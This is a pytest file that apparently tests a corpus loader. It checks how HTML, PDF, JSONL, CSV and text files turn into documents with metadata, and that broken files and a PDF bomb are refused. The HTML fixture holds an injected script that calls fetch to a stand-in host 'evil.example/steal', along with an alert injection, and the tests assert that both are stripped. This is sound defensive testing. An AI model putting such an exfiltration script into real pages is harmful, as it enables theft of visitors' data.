"""Each corpus file format: title, date, author, url and text against what the file holds; hostile and
broken files refused with a reason while the rest of the corpus is kept."""

from __future__ import annotations

import json

import pytest

from embeddings.corpus import load_corpus
from embeddings.documents import clean_article, split_by_page_break
from embeddings.formats import UnreadableFile, normalise_date, read_file
from tests.pdf_maker import make_bomb_pdf, make_pdf, make_scan_pdf

PAGE = """<!DOCTYPE html>
<html><head><title>Karkh plant reopens | City News</title>
<meta name="author" content="Layla Hassan">
<meta property="article:published_time" content="2015-03-12T08:00:00Z">
<link rel="canonical" href="https://news.example.org/karkh-plant">
<script>document.title = "hacked"; fetch("https://evil.example/steal")</script>
<style>p { color: red }</style></head>
<body><nav><a href="/">Home</a> | <a href="/world">World</a></nav>
<article><h1>Karkh plant reopens</h1>
<p>Engineers in Baghdad reopened the Karkh water treatment plant on Tuesday after a two-year repair that cost
48 million dollars, the city council said in a statement.</p>
<script>alert("injected into the body")</script>
<p>The plant supplies drinking water to about 1.2 million residents of the western districts and had been shut
since a flood damaged its pumps.</p>
<p>Officials said a second plant in Rusafa would reopen next year if funding from the ministry arrives.</p>
</article><footer>Copyright 2015 City News. All rights reserved.</footer></body></html>"""

PDF_PAGES = [
    [
        "Karkh plant reopens",
        "12 March 2015",
        "Engineers in Baghdad reopened the Karkh water treatment plant on",
        "Tuesday after a two-year repair that cost 48 million dollars, the",
        "city council said.",
        "The plant supplies drinking water to about 1.2 million residents of",
        "the western districts and had been shut since a flood damaged its",
        "pumps in",
    ],
    ["2013. Officials said a second plant in Rusafa would reopen next", "year."],
]


def test_html_page_gives_main_text_and_metadata_without_scripts_or_navigation():
    (document,) = read_file(PAGE.encode("utf-8"), "karkh.html").documents
    assert document.title == "Karkh plant reopens"
    assert document.author == "Layla Hassan"
    assert document.date == "2015-03-12"
    assert document.url == "https://news.example.org/karkh-plant"
    assert document.source == "karkh.html"
    paragraphs = document.text.split("\n\n")
    assert paragraphs[0].startswith("Engineers in Baghdad reopened the Karkh water treatment plant")
    assert "Rusafa would reopen next year" in paragraphs[-1]
    for unwanted in ("hacked", "evil", "alert", "injected", "Home", "Copyright", "color"):
        assert unwanted not in document.text


def test_html_date_is_not_guessed_from_a_copyright_line():
    page = PAGE.replace('<meta property="article:published_time" content="2015-03-12T08:00:00Z">', "")
    (document,) = read_file(page.encode("utf-8"), "karkh.htm").documents
    assert document.date is None


def test_html_dateline_under_the_headline_is_read():
    page = PAGE.replace('<meta property="article:published_time" content="2015-03-12T08:00:00Z">', "").replace(
        "<h1>Karkh plant reopens</h1>", "<h1>Karkh plant reopens</h1><p>By Omar Saleh</p><p>12 March 2015</p>"
    )
    (document,) = read_file(page.encode("utf-8"), "karkh.html").documents
    assert document.date == "2015-03-12"
    assert not document.text.startswith("12 March")


def test_pdf_gives_text_metadata_and_joins_the_sentence_cut_by_the_page_break():
    data = make_pdf(PDF_PAGES, title="Karkh plant reopens", author="Layla Hassan", created="D:20150313090000Z")
    (document,) = read_file(data, "karkh.pdf").documents
    assert document.title == "Karkh plant reopens"
    assert document.author == "Layla Hassan"
    assert document.date == "2015-03-12"  # the date printed under the title, not the file's creation date
    paragraphs = document.text.split("\n\n")
    assert paragraphs[0] == (
        "Engineers in Baghdad reopened the Karkh water treatment plant on Tuesday after a two-year repair "
        "that cost 48 million dollars, the city council said."
    )
    assert "damaged its pumps in 2013. Officials said a second plant in Rusafa would reopen next year." in paragraphs[1]
    assert len(paragraphs) == 2


def test_pdf_without_a_printed_date_takes_its_creation_date_and_first_line_title():
    pages = [[line for line in PDF_PAGES[0] if line != "12 March 2015"], PDF_PAGES[1]]
    (document,) = read_file(make_pdf(pages, created="D:20150313090000Z"), "karkh.pdf").documents
    assert document.title == "Karkh plant reopens"
    assert document.date == "2015-03-13"
    assert document.author is None


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (make_scan_pdf(), "no text layer"),
        (b"%PDF-1.4\n1 0 obj << /Type /Catalog >> garbage", "damaged"),
        (b"not a pdf at all", "damaged"),
        (make_bomb_pdf(), "bomb"),
    ],
    ids=["scan", "truncated", "not-pdf", "bomb"],
)
def test_unusable_pdfs_are_refused_with_the_reason(data, reason):
    with pytest.raises(UnreadableFile, match=reason):
        read_file(data, "x.pdf")


def _jsonl(*records: object) -> bytes:
    return "\n".join(r if isinstance(r, str) else json.dumps(r) for r in records).encode("utf-8")


RECORD = {
    "id": "a17",
    "title": "Mosul dam repairs begin",
    "date": "March 3, 2016",
    "author": "Sami Nouri",
    "url": "https://wire.example/a17",
    "text": "Italian engineers began grouting work at the Mosul dam on Monday.\n\nThe contract is worth $296 million.",
}


def test_jsonl_records_become_documents_with_their_own_ids_and_fields():
    second = {"text": "Oil exports from Basra rose to 3.3 million barrels a day in February, the ministry said."}
    contents = read_file(_jsonl(RECORD, second), "wire/export.jsonl")
    first, other = contents.documents
    assert first.doc_id == "wire/export.jsonl#a17"
    assert (first.title, first.date, first.author, first.url) == (
        "Mosul dam repairs begin",
        "2016-03-03",
        "Sami Nouri",
        "https://wire.example/a17",
    )
    assert first.text == (
        "Italian engineers began grouting work at the Mosul dam on Monday.\n\nThe contract is worth $296 million."
    )
    assert first.source == "wire/export.jsonl"
    assert other.doc_id == "wire/export.jsonl#2"  # no id: its line number
    assert other.title.startswith("Oil exports from Basra")
    assert other.date is None


def test_jsonl_line_that_is_not_json_is_skipped_and_the_others_kept():
    contents = read_file(_jsonl(RECORD, '{"text": "cut off', ["a list"], {"title": "no text"}), "e.jsonl")
    assert [d.doc_id for d in contents.documents] == ["e.jsonl#a17"]
    reasons = {s.path: s.reason for s in contents.skipped}
    assert reasons["e.jsonl:2"].startswith("not JSON")
    assert "text" in reasons["e.jsonl:3"]
    assert reasons["e.jsonl:4"] == 'no "text"'


def test_jsonl_with_no_usable_line_is_refused():
    with pytest.raises(UnreadableFile, match="no usable record"):
        read_file(b"{oops\n[1, 2]\n", "bad.jsonl")


def test_csv_rows_become_documents_with_their_fields():
    data = (
        b"Title,Date,Author,URL,Text\n"
        b'Mosul dam repairs begin,2016-03-03,Sami Nouri,https://wire.example/a17,"Italian engineers began work, '
        b'said the ministry.\n\nThe contract is worth $296 million."\n'
        b",,,,\n"
    )
    contents = read_file(data, "export.csv")
    (document,) = contents.documents
    assert document.doc_id == "export.csv#2"
    assert (document.title, document.date, document.author, document.url) == (
        "Mosul dam repairs begin",
        "2016-03-03",
        "Sami Nouri",
        "https://wire.example/a17",
    )
    assert document.text == "Italian engineers began work, said the ministry.\n\nThe contract is worth $296 million."
    assert [s.reason for s in contents.skipped] == ['no "text"']


def test_csv_without_a_text_column_is_refused():
    with pytest.raises(UnreadableFile, match='no "text" column'):
        read_file(b"title,body\nA,B\n", "export.csv")


def test_text_file_records_its_source():
    (document,) = read_file(b"A title\n\nSome body text that says something.", "sub/a.md").documents
    assert (document.doc_id, document.source, document.url) == ("sub/a.md", "sub/a.md", None)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2014-08-01", "2014-08-01"),
        ("2014-08-01T10:00:00+02:00", "2014-08-01"),
        ("1 August 2014", "2014-08-01"),
        ("August 1, 2014", "2014-08-01"),
        ("D:20140801120000Z", "2014-08-01"),
        ("2014-02-30", None),
        ("yesterday", None),
        ("", None),
    ],
)
def test_dates_are_normalised_or_left_out(value, expected):
    assert normalise_date(value) == expected


def test_page_break_join_keeps_paragraphs_that_only_lack_a_full_stop():
    # Paragraphs as encyclopedia dumps end them: a reference mark, a trailing name, a sentence cut by the
    # dump. The next one opens a sentence, so none is a page break.
    pairs = [
        ("Tesla graduated in 1873.:33", "In 1873, Tesla returned to his birthtown."),
        ("The boards are the CBSE and the CISCE, NENBSE", "Legally, only non-profit trusts may run schools."),
        ("His name was Ahai", "Despite the high position given to Muslims, some policies remained."),
        ("Every number has a norm, which is", "The fundamental theorem of arithmetic continues to hold."),
        ("Tesla stated,", "Tesla was 6 feet 2 inches tall."),
    ]
    for previous, following in pairs:
        assert not split_by_page_break(previous, following), previous


def test_page_break_join_still_joins_real_breaks():
    pairs = [
        ("This threat, however, is one of Washington's own", "making, and the common enemy is known."),
        ("to lay the basis for a reconciliation conference. US", "Secretary of State Hillary Clinton made an appeal."),
        ("At the same time, Saudi Arabia and the Gulf", "States are deeply hostile to the government."),
        ("had been shut since a flood damaged its pumps in", "2013. Officials said so."),
    ]
    for previous, following in pairs:
        assert split_by_page_break(previous, following), previous


def test_article_paragraphs_one_per_block_are_never_joined():
    paragraphs = [
        "The first paragraph ends with a citation mark.:12",
        "The second ends without any punctuation at all",
        "The third is an ordinary paragraph.",
    ]
    document = clean_article("A title\n\n" + "\n\n".join(paragraphs), doc_id="x")
    assert document.text.split("\n\n") == paragraphs


def test_corpus_of_mixed_formats_loads_each_and_skips_the_bad_ones(tmp_path):
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "page.html").write_text(PAGE, encoding="utf-8")
    (folder / "report.pdf").write_bytes(make_pdf(PDF_PAGES, title="Karkh plant reopens"))
    (folder / "scan.pdf").write_bytes(make_scan_pdf())
    (folder / "wire.jsonl").write_bytes(_jsonl(RECORD, "not json"))
    (folder / "note.txt").write_text("A note\n\nA short note about the plant and its pumps.", encoding="utf-8")
    documents, skipped = load_corpus(folder)
    assert sorted(d.doc_id for d in documents) == ["note.txt", "page.html", "report.pdf", "wire.jsonl#a17"]
    reasons = {s.path.rsplit("/", 1)[-1]: s.reason for s in skipped}
    assert "no text layer" in reasons["scan.pdf"]
    assert reasons["wire.jsonl:2"].startswith("not JSON")
